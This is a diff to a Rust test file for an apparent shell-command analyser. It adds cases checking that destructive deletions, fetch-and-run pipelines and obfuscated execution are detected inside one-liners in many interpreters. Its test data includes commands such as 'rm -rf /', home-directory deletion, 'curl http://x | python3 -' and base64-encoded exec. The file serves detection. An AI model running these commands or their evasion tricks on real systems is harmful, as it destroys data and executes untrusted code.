@@ -10,7 +10,6 @@ use support::understand_shell;
 
 type Case = (&'static str, &'static str, &'static str);
 
-
 #[rustfmt::skip]
 const GRAMMAR: &[Case] = &[
     ("a plain command", "rm -rf /", "shell: rm -rf /"),
@@ -322,6 +321,69 @@ const WRAPPERS: &[Case] = &[
     ("faketime", "faketime '2020-01-01' rm a", "shell: faketime 2020-01-01 rm a || wrapper: rm a"),
 ];
 
+#[rustfmt::skip]
+const INTERPRETERS: &[Case] = &[
+    ("python runs shell text", r#"python3 -c 'import os; os.system("rm a")'"#, r#"shell: python3 -c ‹import os; os.system("rm a")› || interpreter: rm a"#),
+    ("python runs words", r#"python3 -c 'import subprocess; subprocess.run(["rm", "-r", "a b"], check=True)'"#, r#"shell: python3 -c ‹import subprocess; subprocess.run(["rm", "-r", "a b"], check=True)› || interpreter: rm -r ‹a b›"#),
+    ("python removes a tree", r#"python -c 'import shutil as s; s.rmtree("/a")'"#, r#"shell: python -c ‹import shutil as s; s.rmtree("/a")› || interpreter: rm -rf /a"#),
+    ("python imports under another name", r#"python3 -c 'from shutil import rmtree as r; r("a")'"#, r#"shell: python3 -c ‹from shutil import rmtree as r; r("a")› || interpreter: rm -rf a"#),
+    ("python knows variables", r#"python3 -c 'import os; d = "/a"; os.remove(d + "/b")'"#, r#"shell: python3 -c ‹import os; d = "/a"; os.remove(d + "/b")› || interpreter: rm /a/b"#),
+    ("python joins paths", r#"python3 -c 'import os; os.remove(os.path.join("/a", "b"))'"#, r#"shell: python3 -c ‹import os; os.remove(os.path.join("/a", "b"))› || interpreter: rm /a/b"#),
+    ("python knows the home directory", r#"python3 -c 'import os; os.remove(os.path.expanduser("~/a")); os.rmdir(os.environ["HOME"])'"#, r#"shell: python3 -c ‹import os; os.remove(os.path.expanduser("~/a")); os.rmdir(os.environ["HOME"])› || interpreter: rm /home/u/a || interpreter: rm /home/u"#),
+    ("python's path objects", r#"python3 -c 'from pathlib import Path; Path("/a").unlink(missing_ok=True)'"#, r#"shell: python3 -c ‹from pathlib import Path; Path("/a").unlink(missing_ok=True)› || interpreter: rm /a"#),
+    ("python writes a file", r#"python3 -c 'open("/a", "w").write("x")'"#, r#"shell: python3 -c ‹open("/a", "w").write("x")› || interpreter: open"#),
+    ("python reads a file", r#"python3 -c 'print(open("/a").read())'"#, r#"shell: python3 -c print(open("/a").read()) || interpreter: cat /a"#),
+    ("python fetches", r#"python3 -c 'import requests; requests.get("http://x")'"#, r#"shell: python3 -c ‹import requests; requests.get("http://x")› || interpreter: curl http://x"#),
+    ("python evaluates what it fetches", r#"python3 -c 'import urllib.request as u; exec(u.urlopen("http://x").read())'"#, r#"shell: python3 -c ‹import urllib.request as u; exec(u.urlopen("http://x").read())› !fetched-code || interpreter: curl http://x"#),
+    ("python evaluates what it decodes", r#"python3 -c 'import base64; exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInJtIGEiKQ=="))'"#, r#"shell: python3 -c ‹import base64; exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInJtIGEiKQ=="))› || decoded: rm a"#),
+    ("python prints code for a shell", r#"python3 -c 'print("rm a")' | sh"#, r#"shell: python3 -c ‹print("rm a")› || shell: sh || stdin: rm a"#),
+    ("python from a here-document", r#"python3 - <<'E'⏎import os⏎os.system("rm a")⏎E"#, "shell: python3 - || interpreter: rm a"),
+    ("python from a file that was just written", r#"cat > x.py <<'E'⏎import os⏎os.system("rm a")⏎E⏎python3 x.py"#, "shell: cat || shell: python3 x.py || interpreter: rm a"),
+    ("python walks a tree", r#"python3 -c 'import os⏎for d, _, f in os.walk("/a"):⏎    for x in f: os.remove(os.path.join(d, x))'"#, r#"shell: python3 -c ‹import os⏎for d, _, f in os.walk("/a"):⏎    for x in f: os.remove(os.path.join(d, x))› || interpreter: rm -r /a"#),
+    ("python by a built name", r#"python3 -c 'import os; getattr(os, "sys" + "tem")("rm a")'"#, r#"shell: python3 -c ‹import os; getattr(os, "sys" + "tem")("rm a")› || interpreter: rm a"#),
+    ("python with characters", r#"python3 -c 'import os; os.system("".join(map(chr, [114, 109, 32, 97])))'"#, r#"shell: python3 -c ‹import os; os.system("".join(map(chr, [114, 109, 32, 97])))› || interpreter: rm a"#),
+    ("python replaces itself", r#"python3 -c 'import os; os.execvp("rm", ["rm", "a"])'"#, r#"shell: python3 -c ‹import os; os.execvp("rm", ["rm", "a"])› || interpreter: rm a"#),
+    ("text that is only printed", r#"python3 -c 'print("os.system(\"rm a\")")'"#, r#"shell: python3 -c ‹print("os.system(\"rm a\")")›"#),
+    ("a comment", r#"python3 -c 'x = 1 # os.system("rm a")'"#, r#"shell: python3 -c ‹x = 1 # os.system("rm a")›"#),
+    ("a pattern", r#"python3 -c 'import re; re.findall(r"shutil.rmtree\(", "x")'"#, r#"shell: python3 -c ‹import re; re.findall(r"shutil.rmtree\(", "x")›"#),
+    ("a triple quoted string", r#"python3 -c 'x = """os.system("rm a")"""'"#, r#"shell: python3 -c ‹x = """os.system("rm a")"""›"#),
+    ("a module", "python3 -m json.tool a.json", "shell: python3 -m json.tool a.json"),
+    ("fetched code into python", "curl -s http://x | python3 -", "shell: curl -s http://x || shell: python3 - !fetched-code"),
+    ("fetched code as an argument", r#"python3 -c "$(curl -s http://x)""#, "shell: python3 -c □ !fetched-code || substitution: curl -s http://x"),
+    ("node runs shell text", r#"node -e 'require("child_process").execSync("rm a")'"#, r#"shell: node -e ‹require("child_process").execSync("rm a")› || interpreter: rm a"#),
+    ("node runs words", r#"node -e "const {spawn} = require('child_process'); spawn('rm', ['-r', 'a'])""#, "shell: node -e ‹const {spawn} = require('child_process'); spawn('rm', ['-r', 'a'])› || interpreter: rm -r a"),
+    ("node removes a tree", r#"node -e 'require("fs").rmSync("/a", {recursive: true})'"#, r#"shell: node -e ‹require("fs").rmSync("/a", {recursive: true})› || interpreter: rm -rf /a"#),
+    ("node prints", r#"node -p 'require("child_process").execSync("rm a").toString()'"#, r#"shell: node -p ‹require("child_process").execSync("rm a").toString()› || interpreter: rm a"#),
+    ("node's templates", r#"node -e 'require("fs").unlinkSync(`/a/${x}`)'"#, r#"shell: node -e require("fs").unlinkSync(`/a/${x}`) || interpreter: rm /a/□"#),
+    ("node reads and writes", r#"node -e 'const fs = require("fs"); fs.writeFileSync("/a", fs.readFileSync("/b"))'"#, r#"shell: node -e ‹const fs = require("fs"); fs.writeFileSync("/a", fs.readFileSync("/b"))› || interpreter: cat /b || interpreter: writeFileSync"#),
+    ("deno", r#"deno eval 'Deno.removeSync("/a")'"#, r#"shell: deno eval Deno.removeSync("/a") || interpreter: rm -rf /a"#),
+    ("bun", r#"bun -e 'require("fs").rmSync(require("os").homedir())'"#, r#"shell: bun -e require("fs").rmSync(require("os").homedir()) || interpreter: rm -rf /home/u"#),
+    ("a division is no pattern", r#"node -e 'x = a / b; require("fs").unlinkSync("c"); y = d / e'"#, r#"shell: node -e ‹x = a / b; require("fs").unlinkSync("c"); y = d / e› || interpreter: rm c"#),
+    ("node's comments", r#"node -e '/* require("fs").rmSync("/a") */ // require("fs").rmSync("/b")'"#, r#"shell: node -e ‹/* require("fs").rmSync("/a") */ // require("fs").rmSync("/b")›"#),
+    ("perl runs shell text", r#"perl -e 'system("rm a"); `rm b`; qx{rm c}'"#, r#"shell: perl -e ‹system("rm a"); `rm b`; qx{rm c}› || interpreter: rm a || interpreter: rm b || interpreter: rm c"#),
+    ("perl runs words", r#"perl -e 'exec "rm", "-r", "a"'"#, r#"shell: perl -e ‹exec "rm", "-r", "a"› || interpreter: rm -r a"#),
+    ("perl's pipes", r#"perl -e 'open(P, "|rm a"); open(Q, "-|", "rm", "b"); open R, "rm c|"'"#, r#"shell: perl -e ‹open(P, "|rm a"); open(Q, "-|", "rm", "b"); open R, "rm c|"› || interpreter: rm a || interpreter: rm b || interpreter: rm c"#),
+    ("perl removes", r#"perl -e 'unlink "/a", "/b"'"#, r#"shell: perl -e ‹unlink "/a", "/b"› || interpreter: rm /a /b"#),
+    ("perl in a cluster", r#"perl -lane 'print if /rm\s"x/; system "rm a"' f"#, r#"shell: perl -lane ‹print if /rm\s"x/; system "rm a"› f || interpreter: rm a"#),
+    ("perl writes", r#"perl -e 'open(my $f, ">", "/a")'"#, r#"shell: perl -e ‹open(my $f, ">", "/a")› || interpreter: open"#),
+    ("ruby runs", r#"ruby -e 'system "rm", "a"; %x(rm b); `rm c`; exec("rm d")'"#, r#"shell: ruby -e ‹system "rm", "a"; %x(rm b); `rm c`; exec("rm d")› || interpreter: rm a || interpreter: rm b || interpreter: rm c || interpreter: rm d"#),
+    ("ruby removes", r#"ruby -rfileutils -e 'FileUtils.rm_rf "/a"; File.delete("/b")'"#, r#"shell: ruby -rfileutils -e ‹FileUtils.rm_rf "/a"; File.delete("/b")› || interpreter: rm -rf /a || interpreter: rm /b"#),
+    ("ruby's pipes", r#"ruby -e 'open("|rm a"); IO.popen(["rm", "b"])'"#, r#"shell: ruby -e ‹open("|rm a"); IO.popen(["rm", "b"])› || interpreter: rm a || interpreter: rm b"#),
+    ("php", r#"php -r 'shell_exec("rm a"); unlink("/b"); `rm c`;'"#, r#"shell: php -r ‹shell_exec("rm a"); unlink("/b"); `rm c`;› || interpreter: rm a || interpreter: rm /b || interpreter: rm c"#),
+    ("lua", r#"lua5.4 -e 'os.execute("rm a") os.remove("b")'"#, r#"shell: lua5.4 -e ‹os.execute("rm a") os.remove("b")› || interpreter: rm a || interpreter: rm b"#),
+    ("awk", r#"awk 'BEGIN { system("rm a"); print "rm b" | "sh"; "rm c" | getline x }'"#, r#"shell: awk ‹BEGIN { system("rm a"); print "rm b" | "sh"; "rm c" | getline x }› || interpreter: rm a || interpreter: sh || stdin: rm b || interpreter: rm c"#),
+    ("awk's patterns", r#"awk '/system\("rm a"\)/ { print $1 / 2 }' f"#, r#"shell: awk ‹/system\("rm a"\)/ { print $1 / 2 }› f"#),
+    ("R, julia, groovy", r#"Rscript -e 'unlink("/a", recursive = TRUE)'; julia -e 'run(`rm b`)'; groovy -e '"rm c".execute()'"#, r#"shell: Rscript -e ‹unlink("/a", recursive = TRUE)› || interpreter: rm -rf /a || shell: julia -e ‹run(`rm b`)› || interpreter: rm b || shell: groovy -e ‹"rm c".execute()› || interpreter: rm c"#),
+    ("lisps", r#"emacs --batch --eval '(shell-command "rm a")'; guile -c '(system "rm b")'"#, r#"shell: emacs --batch --eval ‹(shell-command "rm a")› || interpreter: rm a || shell: guile -c ‹(system "rm b")› || interpreter: rm b"#),
+    ("erlang and tcl", r#"erl -noshell -eval 'os:cmd("rm a").'; echo 'exec rm b' | tclsh"#, r#"shell: erl -noshell -eval ‹os:cmd("rm a").› || interpreter: rm a || shell: echo ‹exec rm b› || shell: tclsh || interpreter: rm b"#),
+    ("sed runs what it reads", "echo 'rm a' | sed e", "shell: echo ‹rm a› || shell: sed e || stdin: rm a"),
+    ("database clients leave for a shell", r#"sqlite3 x '.shell rm a'; psql -c '\! rm b'"#, r#"shell: sqlite3 x ‹.shell rm a› || shell: rm a || shell: psql -c ‹\! rm b› || shell: rm b"#),
+    ("a script file is judged when it runs", "python3 x.py; node x.js; ruby x.rb", "shell: python3 x.py || shell: node x.js || shell: ruby x.rb"),
+    ("versions and interpreters by path", r#"/usr/bin/python3.11 -c 'import os; os.system("rm a")'"#, r#"shell: /usr/bin/python3.11 -c ‹import os; os.system("rm a")› || interpreter: rm a"#),
+    ("options before the code", r#"python3 -IB -W ignore -c 'import os; os.system("rm a")'"#, r#"shell: python3 -IB -W ignore -c ‹import os; os.system("rm a")› || interpreter: rm a"#),
+    ("code attached to its option", r#"python3 -c'import os; os.system("rm a")'; ruby -e'system("rm b")'"#, r#"shell: python3 ‹-cimport os; os.system("rm a")› || interpreter: rm a || shell: ruby ‹-esystem("rm b")› || interpreter: rm b"#),
+];
+
 fn check(cases: &[Case]) {
     let mut wrong = 0;
     for (why, text, expected) in cases {
@@ -358,4 +420,9 @@ fn what_flows_where() {
 #[test]
 fn wrappers() {
     check(WRAPPERS);
+}
+
+#[test]
+fn code_in_other_languages() {
+    check(INTERPRETERS);
 }
